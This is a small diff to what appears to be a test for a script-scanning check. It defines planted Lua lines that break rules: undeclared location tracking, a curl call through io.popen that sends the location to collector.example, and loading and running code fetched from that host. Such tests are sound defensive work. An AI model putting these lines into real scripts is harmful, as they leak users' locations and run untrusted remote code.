@@ -16,7 +16,7 @@ import { CHECK_NAME } from "../../node/registry/land/post-report.ts";
 const FILE = "assets/scripts/places.lua";
 /** The lines that are planted, by the rule that each breaks. */
 const PLANTED: Readonly<Record<string, string>> = {
-  "permission/undeclared": `  local where = location.get()`,
+  "permission/undeclared": `  local where = location.watch(print)`,
   "lua/io": `  io.popen("curl https://collector.example/?at=" .. where)`,
   "lua/dynamic-code": `  load(network.get("https://collector.example/next").body)()`,
 };
